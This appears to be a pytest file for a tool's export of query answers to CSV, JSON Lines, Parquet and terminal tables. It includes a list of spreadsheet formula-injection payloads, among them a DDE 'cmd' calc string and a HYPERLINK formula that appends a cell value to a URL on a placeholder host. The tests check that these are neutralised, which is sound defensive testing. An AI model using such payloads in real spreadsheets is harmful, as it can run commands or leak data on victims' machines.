"""The files an answer is written to: what a spreadsheet is kept from, what JSON and Parquet keep, and how little is in memory."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
from collections.abc import Iterator
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from arro3.io import read_parquet
from rich.console import Console
from rich.text import Text

from media_monitor.report import answers
from media_monitor.report.answer_table import ROWS_SHOWN, show_table
from media_monitor.report.answers import Answer, Column, Row

COLUMNS = (
    Column("headline", "text"),
    Column("count", "integer"),
    Column("share", "decimal", 6, 3),
    Column("rank", "real"),
    Column("is_copy", "boolean"),
    Column("covers_on", "date"),
    Column("seen_at", "timestamp"),
    Column("names", "texts"),
    Column("detail", "json"),
)
AT = datetime(2026, 3, 10, 7, 40, 1, 250_000, tzinfo=UTC)
ROW: Row = ("Вибух: “so far”", 12, Decimal("0.125"), 0.5, True, date(2026, 3, 10), AT, ["a", "=b", None], {"k": [1]})
NULLS: Row = (None,) * len(COLUMNS)


def answer(*rows: Row, columns: tuple[Column, ...] = COLUMNS) -> Answer:
    return Answer(columns, iter([list(rows)] if rows else []))


def text(form: Any, *rows: Row, raw: bool = False, columns: tuple[Column, ...] = COLUMNS) -> str:
    file = io.StringIO(newline="")
    answers.write_text(answer(*rows, columns=columns), file, form, raw=raw)
    return file.getvalue()


def parquet(path: Path, *rows: Row, columns: tuple[Column, ...] = COLUMNS) -> tuple[Any, list[list[Any]]]:
    """Schema and columns of the file that was written."""
    answers.write(answer(*rows, columns=columns), path, "parquet")
    reader = read_parquet(path)
    batches = list(reader)
    return reader.schema, [[cell.as_py() for batch in batches for cell in batch.column(n)] for n in range(len(columns))]


# ---- CSV -------------------------------------------------------------------------------------------------------------

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.test?"&A1,"here")',
    "+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
]


@pytest.mark.rel("I07")
@pytest.mark.parametrize("formula", FORMULAS)
def test_text_that_a_spreadsheet_takes_for_a_formula_is_disarmed(formula: str) -> None:
    (line,) = list(csv.reader(io.StringIO(text("csv", (formula,), columns=COLUMNS[:1]), newline="")))[1:]
    assert line == ["'" + formula]


@pytest.mark.rel("I07")
@pytest.mark.parametrize("value", ["Explosion at the quay", "a=b", "'quoted'", "5 - 3", " =1", "“=x”", "", "1"])
def test_other_text_is_left_alone(value: str) -> None:
    assert answers.guarded(value) == value


@pytest.mark.rel("I07")
@pytest.mark.parametrize("value", [*FORMULAS, 'a "b", c\nd', ";", "é"])
def test_raw_text_comes_back_as_it_was(value: str) -> None:
    (line,) = list(csv.reader(io.StringIO(text("csv", (value,), raw=True, columns=COLUMNS[:1]), newline="")))[1:]
    assert line == [value]


@pytest.mark.rel("I07")
def test_numbers_stay_numbers(tmp_path: Path) -> None:
    columns = (Column("n", "integer"), Column("d", "decimal", 4, 1), Column("r", "real"))
    assert text("csv", (-3, Decimal("-2.5"), -0.5), columns=columns).splitlines()[1] == "-3,-2.5,-0.5"


def test_csv_has_a_header_iso_times_and_nothing_for_null() -> None:
    header, row, nulls = text("csv", ROW, NULLS).splitlines()
    assert header == "headline,count,share,rank,is_copy,covers_on,seen_at,names,detail"
    assert row.startswith("Вибух: “so far”,12,0.125,0.5,true,2026-03-10,2026-03-10T07:40:01.250000+00:00,")
    assert json.loads(next(csv.reader([row]))[7]) == ["a", "=b", None]
    assert nulls == "," * (len(COLUMNS) - 1)


# ---- JSON Lines ------------------------------------------------------------------------------------------------------


def test_json_keeps_names_types_and_nulls() -> None:
    first, second = map(json.loads, text("jsonl", ROW, NULLS).splitlines())
    assert first == {
        "headline": ROW[0],
        "count": 12,
        "share": 0.125,
        "rank": 0.5,
        "is_copy": True,
        "covers_on": "2026-03-10",
        "seen_at": "2026-03-10T07:40:01.250000+00:00",
        "names": ["a", "=b", None],
        "detail": {"k": [1]},
    }
    assert second == dict.fromkeys(first)


@pytest.mark.parametrize(
    ("decimal", "expected"),
    [("0.1", 0.1), ("12.00", 12), ("-7", -7), ("0.12345678901234567890", "0.12345678901234567890"), ("1E+40", 10**40)],
)
def test_a_decimal_is_a_number_where_no_digit_is_lost(decimal: str, expected: object) -> None:
    line = json.loads(text("jsonl", (Decimal(decimal),), columns=(Column("d", "decimal", 38, 20),)))
    assert line == {"d": expected}


def test_an_open_end_has_its_name_in_text_and_is_absent_in_parquet(tmp_path: Path) -> None:
    columns = (Column("until", "timestamp"), Column("day", "date"))
    row = (datetime.max.replace(tzinfo=UTC), date.max)
    assert text("csv", row, columns=columns).splitlines()[1] == "infinity,infinity"
    assert json.loads(text("jsonl", row, columns=columns)) == {"until": "infinity", "day": "infinity"}
    assert parquet(tmp_path / "x", row, columns=columns)[1] == [[None], [None]]


# ---- Parquet ---------------------------------------------------------------------------------------------------------

TYPES = ["Utf8", "Int64", "Decimal128(6, 3)", "Float64", "Boolean", "Date32", 'Timestamp(µs, "UTC")', "List(Utf8)", "Utf8"]


def types(schema: Any) -> list[str]:
    return [str(schema.field(n).type).strip().removeprefix("arro3.core.DataType<").removesuffix(">") for n in range(len(schema))]


def test_parquet_keeps_types_and_values(tmp_path: Path) -> None:
    schema, columns = parquet(tmp_path / "x.parquet", ROW, NULLS)
    assert types(schema) == TYPES
    assert [column[0] for column in columns[:-1]] == list(ROW[:-1])
    assert json.loads(columns[-1][0]) == ROW[-1]
    assert [column[1] for column in columns] == list(NULLS)


def test_an_empty_answer_keeps_its_columns(tmp_path: Path) -> None:
    schema, columns = parquet(tmp_path / "x.parquet")
    assert types(schema) == TYPES
    assert columns == [[]] * len(COLUMNS)
    assert text("csv") == ",".join(c.name for c in COLUMNS) + "\r\n"
    assert text("jsonl") == ""


def test_times_before_1970_and_microseconds_are_exact(tmp_path: Path) -> None:
    moments = [datetime(1969, 12, 31, 23, 59, 59, 999_999, tzinfo=UTC), datetime(1, 1, 1, tzinfo=UTC), AT]
    assert parquet(tmp_path / "x", *((m,) for m in moments), columns=(Column("at", "timestamp"),))[1] == [moments]


def test_a_numeric_without_a_scale_is_a_double(tmp_path: Path) -> None:
    assert parquet(tmp_path / "x", (Decimal("0.5"),), (None,), columns=(Column("d", "real"),))[1] == [[0.5, None]]


# ---- much of it ------------------------------------------------------------------------------------------------------


def many(batches: int) -> Iterator[list[Row]]:
    for number in range(batches):
        yield [(f"{number}-{n} " + "x" * 400, n, *ROW[2:]) for n in range(500)]


@pytest.mark.parametrize("form", ["csv", "jsonl", "parquet"])
def test_memory_does_not_grow_with_the_answer(tmp_path: Path, form: Any) -> None:
    def peak(batches: int) -> int:
        tracemalloc.start()
        try:
            assert answers.write(Answer(COLUMNS, many(batches)), tmp_path / "x", form) == batches * 500
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    peak(1)
    assert peak(24) < 2 * peak(4)
    everything = sum(len(row[0]) for batch in many(24) for row in batch)
    assert peak(24) < everything, "the stimulus is larger than what may be held"


def test_progress_hears_of_every_batch(tmp_path: Path) -> None:
    heard: list[int] = []
    answers.write(Answer(COLUMNS, many(3)), tmp_path / "x", "csv", progress=heard.append)
    assert heard == [500, 1000, 1500]


# ---- a terminal ------------------------------------------------------------------------------------------------------


def shown(*rows: Row, columns: tuple[Column, ...] = COLUMNS[:2], **options: Any) -> str:
    console = Console(file=io.StringIO(), **({"width": 100} | options))
    show_table(answer(*rows, columns=columns), console)
    assert isinstance(console.file, io.StringIO)
    return console.file.getvalue()


def test_a_table_shows_values_as_people_write_them() -> None:
    shown_row = shown(ROW[1:7] + ROW[7:8], columns=COLUMNS[1:8]).splitlines()[1].split()
    assert shown_row == ["12", "0.125", "0.5", "yes", "2026-03-10", "2026-03-10", "07:40Z", "a,", "=b,", "–"]


def test_markup_and_escapes_of_strangers_are_not_obeyed() -> None:
    assert "[red]x[/red]\ufffd[31m" in shown(("[red]x[/red]\x1b[31m", 1))


def test_a_line_is_whole_however_long_and_numbers_stand_under_each_other() -> None:
    lines = shown(("x" * 300, 5), ("渡轮", 1200)).splitlines()
    assert lines[1] == "x" * 300 + "      5"
    assert lines[2].endswith("  1200")
    assert lines[0].split() == ["headline", "count"]


def test_a_terminal_that_is_too_narrow_gets_records() -> None:
    assert shown(("x" * 30, 5), width=40, force_terminal=True, no_color=True).count("\n") == 2
    lines = [line.rstrip() for line in Text.from_ansi(shown(("x" * 50, 5), width=40, force_terminal=True)).plain.split("\n")]
    assert lines == ["headline  " + "x" * 50, "count     5", "", ""]


def test_a_long_answer_is_cut_and_says_so() -> None:
    rows = [(f"row {n}", n) for n in range(ROWS_SHOWN + 50)]
    told = shown(*rows)
    assert f"row {ROWS_SHOWN - 1} " in told
    assert f"row {ROWS_SHOWN} " not in told
    assert f"The first {ROWS_SHOWN} rows" in told
    assert "The first" not in shown(*rows[:ROWS_SHOWN])
